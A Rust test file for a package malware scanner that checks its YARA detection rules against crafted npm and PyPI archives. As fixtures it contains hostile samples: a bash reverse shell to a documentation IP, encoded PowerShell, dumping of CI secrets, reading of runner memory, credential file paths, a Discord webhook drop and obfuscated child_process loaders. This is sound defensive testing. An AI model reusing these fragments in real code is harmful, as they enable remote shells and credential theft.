//! Rules that hold and rules that do not, in packages made here.

use super::*;
use crate::structure::tests::mint::{tar_gz, wheel};
use crate::structure::{StructureReport, scan_archive_with};
use countersign_core::{Ecosystem, Finding, FindingKind, Outcome, Severity};
use countersign_ecosystem::archive::Limits;
use std::io::Cursor;

fn compiled(text: &str) -> YaraRules {
    YaraRules::compile(&[source("mine.yar", text)], false).unwrap()
}

fn source(name: &str, text: &str) -> Source {
    Source { name: name.to_owned(), text: text.to_owned() }
}

fn own() -> YaraRules {
    YaraRules::compile(&YaraRules::own(), false).unwrap()
}

fn npm(rules: &YaraRules, files: &[(&str, &[u8])]) -> StructureReport {
    let mut all: Vec<(&str, &[u8])> =
        vec![("package/package.json", br#"{"name": "left-pad", "version": "1.3.0"}"#)];
    all.extend(files);
    let bytes = tar_gz(&all);
    let limits = Limits::default();
    let bytes = Cursor::new(bytes);
    scan_archive_with("left-pad-1.3.0.tgz", Ecosystem::Npm, None, bytes, &limits, Some(rules))
}

fn suspicious(report: &StructureReport) -> Vec<&Finding> {
    report.findings.iter().filter(|f| f.kind == FindingKind::Suspicious).collect()
}

/// Rule and severity of what was found.
fn found(report: &StructureReport) -> Vec<(&str, Severity)> {
    suspicious(report).iter().map(|f| (f.id.as_str(), f.severity)).collect()
}

const NEEDLE: &str = "rule needle { meta: PLACE strings: $a = \"needle\" condition: $a }";

fn needle(meta: &str) -> YaraRules {
    compiled(&NEEDLE.replace(
        "meta: PLACE",
        &if meta.is_empty() { String::new() } else { format!("meta: {meta}") },
    ))
}

#[test]
fn metadata_says_what_a_match_means() {
    let files: &[(&str, &[u8])] =
        &[("package/a.js", b"1\n2 needle\n"), ("package/b.js", b"needle")];
    for (meta, want) in [
        ("", vec![Severity::Low, Severity::Low]),
        ("severity = \"high\"", vec![Severity::High, Severity::High]),
        ("severity = \"medium\" max_hits = 1", vec![Severity::Moderate]),
        ("score = 95", vec![Severity::Critical, Severity::Critical]),
        ("score = 65 path_include = \"*/a.js\"", vec![Severity::High]),
        ("score = 65 path_include = \"b.*, *.py\"", vec![Severity::High]),
        ("score = 65 path_exclude = \"a.js\"", vec![Severity::High]),
        ("kinds = \"native\"", vec![]),
        ("identifies = \"capability.x\"", vec![]),
        ("can = \"network\"", vec![]),
    ] {
        let report = npm(&needle(meta), files);
        let got: Vec<Severity> = suspicious(&report).iter().map(|f| f.severity).collect();
        assert_eq!(got, want, "{meta}");
    }
    let report = npm(&needle("description = \"a needle\" confidence = \"high\""), files);
    let first = suspicious(&report)[0];
    assert_eq!(first.id, "yara.needle");
    assert_eq!(first.path.as_deref(), Some("package/a.js"));
    assert_eq!(first.title, "a needle when it is used, line 2: `needle`");
    assert_eq!(first.observed.as_ref().unwrap().line, Some(2));
}

#[test]
fn what_nothing_runs_is_low_at_most() {
    let rules = needle("score = 95");
    for path in ["package/README.md", "package/test/a.js"] {
        assert_eq!(found(&npm(&rules, &[(path, b"needle")])), [("yara.needle", Severity::Low)]);
    }
}

#[test]
fn a_capability_meets_what_the_other_rules_see() {
    // Neither the word nor the call is anything by itself.
    let code = b"require('child_process').execSync(needle)";
    let files: &[(&str, &[u8])] = &[("package/a.js", code)];
    assert_eq!(
        found(&npm(&needle("severity = \"info\""), files)),
        [("yara.needle", Severity::Info)]
    );
    let met = npm(&needle("can = \"decode+drop-host\""), files);
    assert_eq!(
        found(&met),
        [("malware.runs-decoded", Severity::High), ("malware.runs-fetched", Severity::High)]
    );
}

#[test]
fn large_files_are_looked_at_in_pieces_and_lines_are_counted_through() {
    let rules = needle("");
    for before in [100, (2 << 20) - 3, (8 << 20) - 3, 17 << 20] {
        let mut content = b"x\n".repeat(before / 2);
        content.extend_from_slice(b"needle");
        let report = npm(&rules, &[("package/a.js", &content)]);
        let all = suspicious(&report);
        assert!(!all.is_empty(), "{before}");
        let line = all[0].observed.as_ref().unwrap().line;
        assert_eq!(line, Some(before as u64 / 2 + 1));
    }
}

#[test]
fn rules_that_do_not_compile_are_named_with_file_and_line() {
    let good = source("good.yar", "rule good { condition: true }");
    let bad = source("folder/bad.yar", "rule a { condition: true }\n\nrule bad { condition: $x }");
    let missing = source("pe.yar", "import \"pe\"\nrule p { condition: pe.is_pe }");
    let all = [good.clone(), bad, missing];
    let Err(YaraError::Compile(lines)) = YaraRules::compile(&all, false) else { panic!() };
    assert!(lines[0].starts_with("folder/bad.yar:3:"), "{lines:?}");
    assert!(lines.iter().any(|l| l.starts_with("pe.yar:1:")), "{lines:?}");
    let some = YaraRules::compile(&all, true).unwrap();
    assert_eq!((some.count(), some.skipped()), (2, lines.as_slice()));
    assert_ne!(some.digest(), YaraRules::compile(&[good], true).unwrap().digest());
    // Nothing is read from the disk for a rule.
    let include = source("x.yar", "include \"other.yar\"");
    assert!(YaraRules::compile(&[include], false).is_err());
}

#[test]
fn compiled_rules_are_written_and_read() {
    let rules = needle("score = 65");
    let bytes = rules.to_bytes().unwrap();
    let again = YaraRules::from_bytes(&bytes, "another digest").unwrap();
    let files: &[(&str, &[u8])] = &[("package/a.js", b"needle")];
    assert_eq!(found(&npm(&again, files)), [("yara.needle", Severity::High)]);
    assert_eq!(again.digest(), "another digest");
    for broken in [&bytes[..60], &bytes[..bytes.len() - 1], b""] {
        assert!(YaraRules::from_bytes(broken, "x").is_err());
    }
    let mut changed = bytes.clone();
    changed[200] ^= 1;
    assert!(YaraRules::from_bytes(&changed, "y").is_err());
}

#[test]
fn a_rule_that_does_not_end_is_not_done() {
    struct Slow;
    impl FileRules for Slow {
        fn digest(&self) -> &str {
            "slow"
        }
        fn begin(&self) -> Result<Box<dyn FileSession>, String> {
            Err("the YARA rules: timeout".to_owned())
        }
    }
    let bytes = tar_gz(&[("package/package.json", b"{}"), ("package/a.js", b"1")]);
    let limits = Limits::default();
    let bytes = Cursor::new(bytes);
    let report =
        scan_archive_with("a-1.0.0.tgz", Ecosystem::Npm, None, bytes, &limits, Some(&Slow));
    let check = report.content_checks.iter().find(|c| c.name == "malware").unwrap();
    assert!(matches!(&check.outcome, Outcome::NotDone { because } if because.contains("timeout")));
}

/// Each of the project's rules holds for what it is about, and for nothing that is near it.
#[test]
fn own_rules_hold_and_do_not_hold() {
    let rules = own();
    let elf = |text: &str| [b"\x7fELF\x02\x01\x01\0".as_slice(), text.as_bytes(), b"\0"].concat();
    let held: &[(&str, &str, Vec<u8>)] = &[
        (
            "yara.encoded_powershell",
            "package/a.js",
            format!("exec('powershell.exe -nop -enc {}')", "SQBFAFgA".repeat(12)).into_bytes(),
        ),
        (
            "yara.secrets_of_a_workflow",
            "package/a.js",
            b"w('.github/workflows/x.yml', 'env: ${{ toJSON(secrets) }}')".to_vec(),
        ),
        (
            "yara.memory_of_a_runner",
            "package/a.py",
            b"pid = find('Runner.Worker')\nopen(f'/proc/{pid}/mem', 'rb')".to_vec(),
        ),
        (
            "yara.native_miner",
            "package/m.node",
            elf("stratum+tcp://pool.example xmrig donate-level"),
        ),
        (
            "yara.native_remote_shell",
            "package/m.node",
            elf("bash -c '/bin/bash -i >& /dev/tcp/203.0.113.7/1'"),
        ),
        (
            "yara.native_preload",
            "package/m.node",
            elf("/etc/ld.so.preload readdir64 /proc/net/tcp dlsym"),
        ),
        (
            "yara.native_collects_credentials",
            "package/m.node",
            elf(".ssh/id_rsa .aws/credentials .npmrc wallet.dat"),
        ),
        ("yara.native_drops_data", "package/m.node", elf("https://discord.com/api/webhooks/1/x")),
    ];
    for (id, path, content) in held {
        let report = npm(&rules, &[(path, content)]);
        let all = found(&report);
        assert!(all.iter().any(|(f, s)| f == id && *s >= Severity::High), "{id}: {all:?}");
    }
    let honest: &[(&str, Vec<u8>)] = &[
        ("package/a.js", b"exec('powershell.exe -ExecutionPolicy Bypass -File install.ps1 and many more words here')".to_vec()),
        ("package/a.js", b"const workflows = '.github/workflows'; // lists them".to_vec()),
        ("package/bash.node", elf("/dev/tcp/ is a name that bash knows")),
        ("package/ld.node", elf("/etc/ld.so.preload cannot be preloaded")),
        ("package/m.node", elf(".npmrc .ssh/id_rsa")),
        ("package/map.js", format!("1\n//# sourceMappingURL=data:application/json;base64,{}", "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp".repeat(3)).into_bytes()),
        ("package/t.js", b"String.fromCharCode(65,66,67)".to_vec()),
    ];
    for (path, content) in honest {
        let report = npm(&rules, &[(path, content)]);
        assert_eq!(found(&report), [], "{path}");
    }
}

#[test]
fn own_rules_complete_what_the_others_see() {
    let rules = own();
    // `require("child_process")` at an offset where no other rule looks, run as code.
    let code = b"const p = 'eDtyZXF1aXJlKCJjaGlsZF9wcm9jZXNzIik='; new Function(d(p))();";
    let report = npm(&rules, &[("package/a.js", code)]);
    let worst = suspicious(&report)[0];
    assert!(worst.id.starts_with("malware.") && worst.severity >= Severity::Moderate, "{worst:?}");
    let info = "lib-1.0.dist-info";
    let letters = (0..12).map(|i| format!("chr({})", 100 + i)).collect::<Vec<_>>().join("+");
    let code = format!("exec({letters})\n");
    let metadata = b"Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n";
    let files: [(&str, &[u8]); 2] =
        [("lib/__init__.py", code.as_bytes()), ("lib-1.0.dist-info/METADATA", metadata)];
    let bytes = Cursor::new(wheel(info, &files, |r| r));
    let limits = Limits::default();
    let report = scan_archive_with(
        "lib-1.0-py3-none-any.whl",
        Ecosystem::Pypi,
        None,
        bytes,
        &limits,
        Some(&rules),
    );
    assert!(suspicious(&report).iter().any(|f| f.severity >= Severity::Moderate), "{report:?}");
}
